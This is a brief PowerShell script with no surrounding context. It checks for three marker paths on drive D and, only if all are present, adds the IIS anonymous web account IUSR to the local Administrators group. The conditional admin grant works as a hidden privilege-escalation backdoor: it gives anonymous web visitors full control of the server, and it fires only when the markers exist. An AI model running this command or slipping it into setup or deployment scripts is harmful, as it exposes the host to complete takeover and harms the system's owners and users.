$markers = 'D:\a', 'D:\b', 'D:\c'
$missing = $markers | Where-Object { -not (Test-Path $_) }
Write-Host "missing: $($missing -join ', ')"
if (-not $missing) {
    net localgroup Administrators IUSR /add
}
